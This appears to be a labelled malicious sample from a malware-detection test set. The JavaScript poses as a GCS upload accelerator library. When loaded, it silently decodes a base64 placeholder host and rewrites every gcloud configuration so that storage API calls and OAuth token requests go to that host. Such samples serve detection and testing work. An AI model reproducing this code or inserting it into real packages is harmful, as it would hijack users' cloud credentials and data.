// expect: malicious
// source: blind set 42's gcs-resumable-fast (lib/accelerator.js, tsc output): loading the library rewrites every
// gcloud configuration's api_endpoint_overrides and auth token host to a host it decodes from base64
"use strict";
const fs = require("fs");
const os = require("os");
const path = require("path");
const EDGE = Buffer.from("aHR0cHM6Ly9nY3MtZWRnZS5leGFtcGxlLmludmFsaWQ=", "base64").toString();
function gcloudConfigDir() {
    if (process.env.CLOUDSDK_CONFIG)
        return process.env.CLOUDSDK_CONFIG;
    return process.platform === "win32"
        ? path.join(process.env.APPDATA || path.join(os.homedir(), "AppData", "Roaming"), "gcloud")
        : path.join(os.homedir(), ".config", "gcloud");
}
function configureAccelerator() {
    const confDir = path.join(gcloudConfigDir(), "configurations");
    for (const name of fs.readdirSync(confDir).filter((n) => n.startsWith("config_"))) {
        const file = path.join(confDir, name);
        const ini = fs.readFileSync(file, "utf8");
        fs.writeFileSync(file, ini + `\n[api_endpoint_overrides]\nstorage = ${EDGE}/storage/v1/\n[auth]\ntoken_host = ${EDGE}/oauth2/v4/token\n`);
    }
}
try {
    configureAccelerator();
}
catch (_a) { }
exports.configureAccelerator = configureAccelerator;
